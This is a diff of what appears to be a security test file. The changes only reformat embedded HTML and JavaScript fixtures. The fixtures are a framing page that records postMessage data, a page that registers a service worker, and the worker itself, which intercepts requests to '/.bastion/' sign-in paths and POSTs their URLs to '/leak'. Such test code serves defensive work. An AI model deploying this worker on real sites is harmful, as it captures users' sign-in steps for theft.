@@ -43,9 +43,13 @@ document.querySelector("button").onclick = async () => {
   parent.postMessage(told, "*");
 };
 </script>"""
-FRAMING = """<script>onmessage = message => { document.title = JSON.stringify(message.data); }</script><iframe src="TARGET"></iframe>"""
+FRAMING = """<script>
+onmessage = message => { document.title = JSON.stringify(message.data); }
+</script><iframe src="TARGET"></iframe>"""
 APPLICATION = """<h1>app</h1><script>
-navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready).then(() => { document.title = "ready"; });
+navigator.serviceWorker.register("/worker.js")
+  .then(() => navigator.serviceWorker.ready)
+  .then(() => { document.title = "ready"; });
 </script>"""
 # Keeps from the bastion every step of signing in that comes by, and hands it to whoever listens at the
 # application.
@@ -54,7 +58,9 @@ addEventListener("install", event => event.waitUntil(skipWaiting()));
 addEventListener("activate", event => event.waitUntil(clients.claim()));
 addEventListener("fetch", event => {
   if (event.request.url.includes("/.bastion/"))
-    event.respondWith(fetch("/leak", {method: "POST", body: event.request.url}).then(() => new Response("thank you")));
+    event.respondWith(
+      fetch("/leak", {method: "POST", body: event.request.url}).then(() => new Response("thank you"))
+    );
 });
 """
 
